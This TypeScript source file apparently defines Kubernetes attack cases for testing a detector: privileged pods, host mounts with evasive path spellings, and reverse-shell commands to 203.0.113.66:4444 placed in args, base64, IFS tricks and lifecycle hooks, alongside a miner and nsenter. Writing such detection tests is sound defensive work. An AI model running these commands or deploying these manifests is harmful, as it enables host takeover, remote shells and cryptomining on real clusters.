import type { JsonObject } from '../simulation/go-json.ts';
import type { Attack, Running } from './attack.ts';
import { node } from './cast.ts';

interface Rest extends Omit<Running, 'does'> {
  readonly least?: Attack['least'];
  readonly unfit?: readonly string[];
  readonly author?: Attack['by'];
}

/** An attack that has a pod run. */
export function runs(id: string, what: string, rows: readonly string[], { least = 'medium', unfit, author, ...deed }: Rest): Attack {
  return {
    id,
    what,
    rows,
    least,
    deed: { does: 'run', ...deed },
    ...(unfit === undefined ? {} : { unfit }),
    ...(author === undefined ? {} : { by: author }),
  };
}

const hostPath = (path: string, more: JsonObject = {}): JsonObject => ({ volumes: [{ name: 'data', hostPath: { path, ...more } }] });

/** Spellings of a host path that the API server takes: it refuses a step back. Source: kubernetes `pkg/apis/core/validation`, `validatePathNoBacksteps`. */
function pathSpellings(path: string): Record<string, Pick<Running, 'spec'>> {
  const spelt: Record<string, string> = {
    'doubled slashes': path.replaceAll('/', '//'),
    'a dot between': path === '/' ? '/.' : path.replace(/\/(?=[^/]*$)/, '/./'),
    'a slash at the end': `${path}/`,
    'through the root of process 1': `/proc/1/root${path}`,
    ...(path.startsWith('/var/run') ? { 'run for var run': path.slice('/var'.length) } : {}),
    ...(path.startsWith('/run/') ? { 'var run for run': `/var${path}` } : {}),
  };
  return {
    ...Object.fromEntries(Object.entries(spelt).map(([name, other]) => [`path with ${name}`, { spec: hostPath(other) }])),
    'of a declared type': { spec: hostPath(path, { type: path.endsWith('.sock') ? 'Socket' : 'Directory' }) },
    'behind harmless volumes': {
      spec: {
        volumes: [
          { name: 'tmp', emptyDir: {} },
          { name: 'conf', configMap: { name: 'conf' } },
          { name: 'data', hostPath: { path } },
        ],
      },
    },
  };
}

const capability = (...add: string[]): JsonObject => ({ securityContext: { capabilities: { add, drop: ['NET_RAW'] } } });
const command = (...words: string[]): JsonObject => ({ command: words });

/** Pods and workloads that reach for the host. */
export const hostAttacks: readonly Attack[] = [
  runs('privileged-container', 'runs a privileged container', ['D068'], {
    container: { securityContext: { privileged: true } },
    spellings: {
      'with capabilities dropped': {
        container: { securityContext: { privileged: true, capabilities: { drop: ['ALL'] }, readOnlyRootFilesystem: true } },
      },
    },
  }),
  runs('dangerous-capability', 'adds a capability that opens the host', ['D069'], {
    container: capability('SYS_ADMIN'),
    spellings: {
      'with CAP_': { container: capability('CAP_SYS_ADMIN') },
      'in small letters': { container: capability('sys_admin') },
      'in small letters with cap_': { container: capability('cap_sys_admin') },
      ALL: { container: capability('ALL') },
      all: { container: capability('all') },
      "SYS_PTRACE among the host's processes": { container: capability('SYS_PTRACE'), spec: { hostPID: true } },
      SYS_MODULE: { container: capability('SYS_MODULE') },
      DAC_READ_SEARCH: { container: capability('DAC_READ_SEARCH') },
      'after harmless ones': { container: capability('CHOWN', 'KILL', 'NET_BIND_SERVICE', 'SYS_ADMIN') },
    },
  }),
  runs('capability-over-neighbours', 'adds a capability that opens what the pod shares', ['D069'], {
    least: 'low',
    container: capability('SYS_PTRACE'),
    spellings: { NET_ADMIN: { container: capability('NET_ADMIN') } },
  }),
  runs('host-root-mounted', "mounts the host's root", ['D070'], { spec: hostPath('/'), spellings: pathSpellings('/') }),
  runs('kubelet-folder-mounted', "mounts the kubelet's folder", ['D070'], {
    spec: hostPath('/var/lib/kubelet/pods'),
    spellings: pathSpellings('/var/lib/kubelet/pods'),
  }),
  runs('etc-mounted', "mounts the host's configuration", ['D070'], { spec: hostPath('/etc'), spellings: pathSpellings('/etc') }),
  runs('containerd-socket-mounted', "mounts the container runtime's socket", ['D071'], {
    spec: hostPath('/run/containerd/containerd.sock'),
    spellings: { ...pathSpellings('/run/containerd/containerd.sock'), 'by its folder': { spec: hostPath('/run/containerd') } },
  }),
  runs('runtime-folder-mounted', "mounts the folder that holds the runtime's folder", ['D070', 'D071'], {
    spec: hostPath('/run'),
    spellings: pathSpellings('/run'),
  }),
  runs('docker-socket-mounted', "mounts Docker's socket", ['D071'], {
    spec: hostPath('/var/run/docker.sock'),
    spellings: pathSpellings('/var/run/docker.sock'),
  }),
  runs('host-network', "shares the host's network", ['D072'], { spec: { hostNetwork: true } }),
  runs('host-pid', "shares the host's processes", ['D073'], { spec: { hostPID: true } }),
  runs('host-ipc', "shares the host's IPC", ['D074'], { spec: { hostIPC: true } }),
  runs('host-port', 'opens a port of the host', ['D076'], {
    least: 'low',
    container: {
      ports: [
        { name: 'http', containerPort: 8080, protocol: 'TCP' },
        { name: 'x', containerPort: 4444, hostPort: 4444, protocol: 'TCP' },
      ],
    },
    positions: ['containers', 'initContainers'],
  }),
  runs('everything-at-once', 'asks for all of the host, as a node debugger does', ['D053', 'D068', 'D070', 'D073'], {
    name: 'node-debugger-ip-10-0-31-7.eu-central-1.compute.internal-x7k2p',
    kinds: ['Pod'],
    spec: { hostPID: true, hostNetwork: true, hostIPC: true, nodeName: 'ip-10-0-31-7.eu-central-1.compute.internal', ...hostPath('/') },
  }),
  runs('node-debugger', 'runs a node debugger', ['D053'], {
    name: 'node-debugger-ip-10-0-31-7.eu-central-1.compute.internal-x7k2p',
    kinds: ['Pod'],
    spec: { hostPID: true, hostNetwork: true, hostIPC: true, nodeName: 'ip-10-0-31-7.eu-central-1.compute.internal', ...hostPath('/') },
    unfit: ['generateName'],
  }),
];

const gpuImage = (name: string): Pick<Running, 'container'> => ({ container: { image: name } });

/** Pods and workloads that run what nobody should, or where, or as whom nobody should. */
export const workloadAttacks: readonly Attack[] = [
  runs('offensive-image', 'runs an attack distribution', ['D055'], {
    container: { image: 'docker.io/kalilinux/kali-rolling:latest', command: ['sleep', 'infinity'] },
    spellings: {
      'a miner by digest': gpuImage(`ghcr.io/xmrig/xmrig@sha256:${'4f'.repeat(32)}`),
      'without registry and tag': gpuImage('kalilinux/kali-rolling'),
      'from a registry with a port': gpuImage('registry.example.net:5000/tools/kali-rolling:1'),
      Peirates: gpuImage('bustakube/alpine-peirates:latest'),
      Metasploit: gpuImage('metasploitframework/metasploit-framework:6.4.1'),
    },
  }),
  runs('offensive-command', 'starts with a reverse shell', ['D055'], {
    container: command('sh', '-c', 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'),
    positions: ['containers', 'initContainers', 'ephemeralContainers'],
    spellings: {
      'in args': { container: { command: ['/bin/sh'], args: ['-c', 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'] } },
      'in args alone': { container: { args: ['sh', '-c', 'nc 203.0.113.66 4444 -e /bin/sh'] } },
      'base64 piped to sh': {
        container: command(
          'sh',
          '-c',
          `echo ${Buffer.from('bash -i >& /dev/tcp/203.0.113.66/4444 0>&1').toString('base64')} | base64 -d | bash`,
        ),
      },
      'words apart by IFS': { container: command('sh', '-c', 'nc${IFS}203.0.113.66${IFS}4444${IFS}-e${IFS}/bin/sh') },
      'empty quotes in words': { container: command('sh', '-c', "n''c 203.0.113.66 4444 -e /bin/s''h") },
      'a miner': { container: command('/usr/bin/xmrig', '-o', 'pool.example.net:3333') },
      'host entered': { container: command('nsenter', '--target', '1', '--mount', '--', 'sh') },
    },
  }),
  runs('offensive-hook', 'hides a reverse shell in a hook', ['D055'], {
    container: { lifecycle: { postStart: { exec: { command: ['sh', '-c', 'nc 203.0.113.66 4444 -e /bin/sh'] } } } },
    positions: ['containers'],
    spellings: {
      'in preStop': {
        container: { lifecycle: { preStop: { exec: { command: ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'] } } } },
      },
      'in a liveness probe': {
        container: { livenessProbe: { exec: { command: ['sh', '-c', 'nc 203.0.113.66 4444 -e /bin/sh'] }, periodSeconds: 60 } },
      },
      'in a startup probe': {
        container: { startupProbe: { exec: { command: ['sh', '-c', 'nc 203.0.113.66 4444 -e /bin/sh'] }, periodSeconds: 60 } },
      },
    },
  }),
  runs('foreign-image', 'runs an image of a registry that nobody allowed', ['D057'], {
    least: 'low',
    container: { image: 'registry.example.net/tools/helper:1' },
  }),
  runs('image-replaced', 'replaces the image of a running workload', ['D058'], {
    least: 'low',
    container: { image: 'docker.io/attacker/api:1.42.0' },
    kinds: ['Deployment', 'DaemonSet', 'StatefulSet', 'CronJob'],
    manners: ['merge-patch', 'json-patch', 'apply', 'update'],
    positions: ['containers'],
  }),
  runs('container-beside', 'adds a container to a running workload', ['D059'], {
    least: 'low',
    beside: true,
    container: { name: 'metrics', image: 'docker.io/attacker/metrics:1' },
    kinds: ['Deployment', 'DaemonSet', 'StatefulSet', 'CronJob'],
    manners: ['merge-patch', 'json-patch', 'apply', 'update'],
    positions: ['containers', 'initContainers'],
  }),
  runs('limits-removed', 'takes the limits off a workload', ['D120'], {
    least: 'low',
    container: { resources: { limits: null, requests: { cpu: '100m' } } },
    kinds: ['Deployment', 'DaemonSet', 'StatefulSet'],
    manners: ['merge-patch', 'json-patch', 'apply', 'update'],
    positions: ['containers'],
  }),
  runs('limits-raised', 'multiplies the limits of a workload', ['D120'], {
    least: 'low',
    container: { resources: { limits: { cpu: '64', memory: '256Gi' }, requests: { cpu: '100m' } } },
    kinds: ['Deployment', 'DaemonSet', 'StatefulSet'],
    manners: ['merge-patch', 'json-patch', 'apply', 'update'],
    positions: ['containers'],
    spellings: {
      'in thousandths and bytes': {
        container: { resources: { limits: { cpu: '64000m', memory: '274877906944' }, requests: { cpu: '100m' } } },
      },
    },
  }),
  runs('node-chosen', 'chooses the node of a pod itself', ['D066'], {
    least: 'low',
    spec: { nodeName: 'ip-10-0-31-7.eu-central-1.compute.internal' },
    manners: ['create', 'apply-new'],
  }),
  runs('mirror-pod', 'has a node report a static pod', ['D067'], {
    kinds: ['Pod'],
    manners: ['create'],
    name: 'helper-ip-10-0-31-7.eu-central-1.compute.internal',
    namespace: 'kube-system',
    metadata: {
      annotations: {
        'kubernetes.io/config.mirror': '5d2e8f0c6a1b47d98c3f',
        'kubernetes.io/config.source': 'file',
        'kubernetes.io/config.hash': '5d2e8f0c6a1b47d98c3f',
      },
    },
    spec: { nodeName: 'ip-10-0-31-7.eu-central-1.compute.internal' },
    author: node,
    unfit: ['impersonat', 'generateName', 'agent'],
  }),
  runs('privileged-account', "runs as a controller's account", ['D078'], {
    namespace: 'kube-system',
    spec: { serviceAccountName: 'clusterrole-aggregation-controller', serviceAccount: 'clusterrole-aggregation-controller' },
    spellings: { 'another controller': { spec: { serviceAccountName: 'daemon-set-controller', serviceAccount: 'daemon-set-controller' } } },
    manners: ['create', 'apply-new'],
  }),
  runs('pod-in-system-namespace', 'runs a pod in kube-system', ['D079'], {
    least: 'low',
    namespace: 'kube-system',
    name: 'helper',
    manners: ['create', 'apply-new'],
  }),
  runs('pod-in-guardduty-namespace', 'runs a pod where the sensor runs', ['D079'], {
    least: 'low',
    namespace: 'amazon-guardduty',
    name: 'helper',
    manners: ['create', 'apply-new'],
  }),
  runs('credentials-in-environment', 'writes credentials into an environment', ['D112'], {
    least: 'low',
    container: {
      env: [
        { name: 'AWS_ACCESS_KEY_ID', value: 'AKIAIOSFODNN7EXAMPLE' },
        { name: 'AWS_SECRET_ACCESS_KEY', value: 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY' },
      ],
    },
    spellings: {
      'in arguments': { container: { args: ['--aws-key=AKIAIOSFODNN7EXAMPLE', '--aws-secret=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY'] } },
      'under another name': { container: { env: [{ name: 'X', value: 'AKIAIOSFODNN7EXAMPLE' }] } },
    },
  }),
];
